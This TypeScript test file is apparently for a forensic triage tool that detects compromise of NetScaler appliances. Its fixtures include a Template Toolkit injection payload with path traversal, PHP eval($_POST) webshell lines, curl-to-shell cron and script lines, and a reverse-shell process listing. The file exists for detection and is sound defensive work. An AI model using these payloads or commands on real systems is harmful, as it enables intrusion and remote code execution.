/**
 * File rules of triage, each with a positive and a negative fixture; a clean fresh install gives
 * no finding at all.
 */
import { describe, expect, it } from 'vitest';
import { type CollectionSpec, freshInstall, rulesOf, T2020, triageSpec } from './helpers.js';

function withFiles(extra: CollectionSpec['files'], meta: Record<string, string> = {}): CollectionSpec {
  const base = freshInstall();
  return { ...base, files: { ...base.files, ...extra }, meta: { ...base.meta, ...meta } };
}

describe('clean collections', () => {
  it('a fresh install gives no finding, verdict clean, and says nothing is missing', async () => {
    const r = await triageSpec(freshInstall());
    expect(r.findings).toEqual([]);
    expect(r.summary.verdict).toBe('clean');
    expect(r.host).toEqual({ hostname: 'adc1', ip: '192.0.2.10', version: '13.0-47.22', collected_at: '2020-02-01T10:00:00Z' });
    expect(r.not_checked.filter((n) => !n.startsWith('logs'))).toEqual([]);
  });

  it('our own output dir, manifest and listings never count as evidence', async () => {
    const own = '/var/tmp/edgewatch-collect-adc1-20200201T100000Z';
    const spec = withFiles({
      [`${own}/fs/var/tmp/netscalerd`]: { content: 'x', copy: false },
      [`${own}/fs/var/vpn/themes/imgs/tiny.php`]: { content: '<?php eval($_POST[1]);', copy: false, mode: 0o644 },
    });
    spec.meta = {
      ...spec.meta,
      'errors.txt': 'find: /tmp/.init/httpd: No such file or directory\ncurl wget template.new\n',
      'collect.txt': `hostname: adc1\nns_version: 13.0-47.22\noutput_dir: ${own}\n`,
    };
    const r = await triageSpec(spec);
    expect(r.findings).toEqual([]);
  });
});

describe('portal dirs (§4.1, §4.2#1–3)', () => {
  const payload =
    '<user username="../../../netscaler/portal/templates/a1b2"><bookmark title="[% template.new({\'BLOCK\'=\'print readpipe(chr(105) . chr(100))\'})%]" url="http://127.0.0.1"/></user>';

  it('template payload in the templates dir: high exploitation with line and mtime', async () => {
    const r = await triageSpec(withFiles({ '/netscaler/portal/templates/a1b2.xml': { content: `<?xml?>\n${payload}\n`, mode: 0o644 } }));
    // Content and mode are separate rows of the checklist (§4.2#1, #2): both are reported.
    expect(rulesOf(r).sort()).toEqual(['portal-file-permissions:low', 'template-payload:high']);
    const f = r.findings.find((x) => x.rule === 'template-payload')!;
    expect(f).toMatchObject({
      kind: 'exploitation',
      path: '/netscaler/portal/templates/a1b2.xml',
      line: 2,
      time: new Date(T2020 * 1000).toISOString(),
    });
    expect(f.excerpt).toContain('template.new');
    expect(r.summary.verdict).toBe('compromised');
  });

  it('backtick payload in /var/tmp templates and payload in a file name', async () => {
    const r = await triageSpec(
      withFiles({
        '/var/tmp/netscaler/portal/templates/x.xml': '<b title="[% print `id` %]"/>',
        "/var/vpn/bookmark/lol[%template.new({'BLOCK'='print`id`'})%].xml": '<user/>',
      }),
    );
    expect(r.findings.map((f) => f.rule)).toEqual(['template-payload', 'template-payload']);
  });

  it('an ordinary Template Toolkit file and an old bookmark are not payloads', async () => {
    const r = await triageSpec(
      withFiles({
        '/netscaler/portal/templates/page.tmpl': '[% INCLUDE header %][% FOREACH b IN bookmarks %][% b.title %][% END %]',
        '/var/vpn/bookmark/old.xml': { content: `${payload}`, mtime: Date.UTC(2019, 0, 1) / 1000, mode: 0o644 },
      }),
    );
    expect(r.findings).toEqual([]);
  });

  it('blacklisted strings with their exceptions', async () => {
    const hit = await triageSpec(withFiles({ '/var/vpn/themes/x.txt': 'var a = 1;\nsystem("curl http://x/ld.sh");\n' }));
    expect(rulesOf(hit)).toContain('template-blacklisted-content:medium');
    expect(hit.findings.find((f) => f.rule === 'template-blacklisted-content')?.line).toBe(2);
    const nsconf = await triageSpec(withFiles({ '/var/vpn/bookmark/a.txt': 'header\n#NS13.0 Build 47.22\nset ns hostName x\n' }));
    expect(rulesOf(nsconf)).toEqual(['template-blacklisted-content:medium']);
    const exceptions = await triageSpec(
      withFiles({ '/var/vpn/themes/y.txt': 'execute();\neval(handle_subscriptions());\nrun build.sh and upgrade.py\n' }),
    );
    expect(exceptions.findings).toEqual([]);
  });

  it('mode 644 is low (anomaly only: attempts_only), bm_prefix_ files are exempt', async () => {
    const r = await triageSpec(
      withFiles({
        '/var/vpn/bookmark/custom.xml': { content: '<user/>', mode: 0o644 },
        '/var/vpn/bookmark/bm_prefix_x.xml': { content: '<user/>', mode: 0o644 },
      }),
    );
    expect(r.findings.map((f) => [f.rule, f.confidence, f.path])).toEqual([
      ['portal-file-permissions', 'low', '/var/vpn/bookmark/custom.xml'],
    ]);
    expect(r.summary.verdict).toBe('attempts_only');
  });

  it('unexpected .pl names are medium; legit names are not', async () => {
    const r = await triageSpec(withFiles({ '/netscaler/portal/scripts/PersonalBookmak.pl': { content: 'print 1;', mode: 0o644 } }));
    expect(r.findings.map((f) => f.rule)).toEqual(['perl-script-unexpected']);
    expect(r.findings[0].confidence).toBe('medium');
  });
});

describe('left-behind files (§4.2#4–9, §4.6–§4.8)', () => {
  const cases: Array<[string, string, string]> = [
    ['/var/tmp/netscalerd', 'miner-netscalerd', 'high'],
    ['/tmp/.init/httpd', 'notrobin-file', 'high'],
    ['/var/nstmp/.nscache/prev.sh', 'notrobin-file', 'high'],
    ['/var/vpn/themes/0123456789abcdef0123456789abcdef.php', 'notrobin-key-webshell', 'high'],
    ['/var/vpn/theme/0123456789abcdef0123456789abcdef_cmd.pl', 'notrobin-key-webshell', 'high'],
    ['/tmp/bsd', 'apt41-tool', 'high'],
    ['/var/vpn/themes/imgs/tiny.php', 'known-webshell-path', 'high'],
    ['/netscaler/ns_gui/vpn/images/vpn_ns_gui.php', 'known-webshell-path', 'high'],
    ['/var/nstmp/chisel', 'known-webshell-path', 'high'],
    ['/var/ns_gui/n_top/admin.php', 'php-in-alias-dir', 'medium'],
    ['/var/tmp/the', 'ioc-2023-file', 'high'],
    ['/var/tmp/conf/multi_account.conf', 'ioc-2023-file', 'high'],
    ['/var/vpn/theme/.theme.php', 'ioc-2023-file', 'high'],
    ['/netscaler/ns_gui/epa/scripts/win/info.php', 'ioc-2023-file', 'high'],
  ];
  for (const [path, rule, conf] of cases) {
    it(`${path} listed but not copied → ${rule} (${conf})`, async () => {
      const r = await triageSpec(withFiles({ [path]: { content: 'x', copy: false, mode: 0o444 } }));
      expect(r.findings.filter((f) => f.rule === rule).map((f) => [f.path, f.confidence])).toEqual([[path, conf]]);
      expect(r.summary.verdict).toBe('compromised');
    });
  }

  it('look-alikes are not hits', async () => {
    const r = await triageSpec(
      withFiles({
        '/var/tmp/netscalerd.log.old': { content: 'x', mode: 0o444 },
        '/tmp/bsdlabel': 'x',
        '/var/vpn/themes/0123456789abcdef.php.txt': 'x',
        '/var/vpn/themes/imgs/logo.png': 'x',
        '/var/tmp/conf/readme.txt': 'x',
      }),
    );
    expect(r.findings).toEqual([]);
  });
});

describe('PHP (§4.2#19, §4.8)', () => {
  it('writable PHP under /var/vpn is medium; webshell strings are high', async () => {
    const r = await triageSpec(
      withFiles({ '/var/vpn/config.php': { content: '<?php http_response_code(201);@eval($_POST["c"]);', mode: 0o644 } }),
    );
    expect(rulesOf(r)).toEqual(['php-content:high', 'php-permission:medium']);
  });

  it('broad strings count only under the three trees and only in the first 2,048 bytes', async () => {
    const deep = `<?php\n${'// padding\n'.repeat(300)}eval($_POST[1]);`;
    const r = await triageSpec(
      withFiles({
        '/netscaler/ns_gui/admin_ui/php/x.php': { content: '<?php base64_decode($a); array_filter($b);', mode: 0o444 },
        '/var/netscaler/ns_gui/deep.php': { content: deep, mode: 0o444 },
      }),
    );
    expect(r.findings).toEqual([]);
    const hit = await triageSpec(
      withFiles({ '/var/netscaler/logon/LogonPoint/x.php': { content: '<?php $x = base64_decode($q);', mode: 0o444 } }),
    );
    expect(rulesOf(hit)).toEqual(['php-content:high']);
  });
});

describe('cron (§4.2#10, #20)', () => {
  it('a nobody crontab file is high, even when only listed', async () => {
    const r = await triageSpec(
      withFiles({ '/var/cron/tabs/nobody': { content: '* * * * * /var/nstmp/.nscache/httpd\n', copy: false, mode: 0o600 } }),
    );
    expect(rulesOf(r)).toEqual(['cron-nobody:high']);
  });

  it('crontab.txt: nobody entries high, IPv4 or /var/tmp commands of root medium', async () => {
    const r = await triageSpec(
      withFiles(
        {},
        {
          'crontab.txt':
            '# user: root\n0 * * * * /usr/bin/newsyslog\n*/5 * * * * /var/tmp/x.sh\n# user: nobody\n* * * * * curl http://1.2.3.4/ci.sh | sh\n',
        },
      ),
    );
    expect(r.findings.map((f) => [f.rule, f.confidence, f.line])).toEqual([
      ['cron-nobody', 'high', 5],
      ['cron-nobody', 'medium', 3],
    ]);
  });

  it('/etc/crontab user column', async () => {
    const r = await triageSpec(
      withFiles({ '/etc/crontab': '*/1 * * * * nobody /var/nstmp/.nscache/httpd\n0 0 * * * root /usr/libexec/atrun\n' }),
    );
    expect(r.findings.filter((f) => f.rule === 'cron-nobody').map((f) => f.confidence)).toEqual(['high']);
  });
});

describe('SUID, timestomping, processes, sockets (§4.2#13–18)', () => {
  it('SUID outside the whitelist: /var/nss high, other medium', async () => {
    const base = freshInstall().meta?.['suid.txt'] ?? '';
    const r = await triageSpec(withFiles({}, { 'suid.txt': `${base}/var/nss\n/var/tmp/helper\n` }));
    expect(r.findings.map((f) => [f.rule, f.confidence, f.path])).toEqual([
      ['ioc-2023-file', 'high', '/var/nss'],
      ['suid-unexpected', 'high', '/var/nss'],
      ['suid-unexpected', 'medium', '/var/tmp/helper'],
    ]);
  });

  it('ctime − mtime over 14 days under /var/vpn is a medium anomaly; 13 days is not', async () => {
    const m = Date.UTC(2019, 0, 1) / 1000;
    const r = await triageSpec(
      withFiles({
        '/var/vpn/themes/a.css': { content: 'a{}', mtime: m, ctime: m + 15 * 86400 },
        '/var/vpn/themes/b.css': { content: 'b{}', mtime: m, ctime: m + 13 * 86400 },
        '/netscaler/portal/c.css': { content: 'c{}', mtime: m, ctime: m + 99 * 86400 },
      }),
    );
    expect(r.findings.map((f) => [f.rule, f.confidence, f.path])).toEqual([['timestomp', 'medium', '/var/vpn/themes/a.css']]);
    expect(r.summary.verdict).toBe('attempts_only');
  });

  it('processes: nobody shells and implant binaries are high, other nobody processes medium, root never judged', async () => {
    const ps = `${freshInstall().meta?.['ps.txt']}nobody  700  0.0  0.0  3000  1000  ??  S    11:00AM   0:00.00 /bin/sh -i\nnobody  701  0.0  0.0  3000  1000  ??  S    11:00AM   0:00.00 /var/python/bin/python -c import socket,subprocess\nnobody  702  0.0  0.0  3000  1000  ??  S    11:00AM   0:00.00 /var/tmp/netscalerd -o pool\nroot  703  0.0  0.0  3000  1000  ??  S    11:00AM   0:00.00 /bin/sh -i\n`;
    const r = await triageSpec(withFiles({}, { 'ps.txt': ps }));
    expect(r.findings.map((f) => [f.rule, f.confidence])).toEqual([
      ['process-nobody', 'high'],
      ['process-nobody', 'high'],
      // the miner runs from /var/tmp, a documented staging location: as telling as a shell
      ['process-nobody', 'high'],
    ]);
  });

  it('sockets: UDP *:18634 and a nobody shell with a remote peer', async () => {
    const s = `${freshInstall().meta?.['sockstat.txt']}nobody   httpd      900   5  udp4   *:18634               *:*\nnobody   sh         901   3  tcp4   192.0.2.10:31337      203.0.113.9:4444\nnobody   python2.7  902   3  tcp4   127.0.0.1:5000        127.0.0.1:80\n`;
    const r = await triageSpec(withFiles({}, { 'sockstat.txt': s }));
    expect(r.findings.map((f) => [f.rule, f.confidence])).toEqual([
      ['notrobin-udp-18634', 'high'],
      ['outbound-shell', 'high'],
    ]);
    expect(r.summary.source_ips).toEqual(['203.0.113.9']);
  });
});

describe('not checked', () => {
  it('an offline collection without listings says what it could not check', async () => {
    const r = await triageSpec({ files: { '/netscaler/portal/templates/x.tmpl': 'x' }, noStat: true });
    const text = r.not_checked.join('\n');
    for (const want of [
      'meta/ps.txt missing',
      'meta/sockstat.txt missing',
      'meta/suid.txt missing',
      'timestomping',
      'crontabs',
      'portal file permissions',
    ]) {
      expect(text).toContain(want);
    }
    expect(r.summary.verdict).toBe('clean');
  });
});
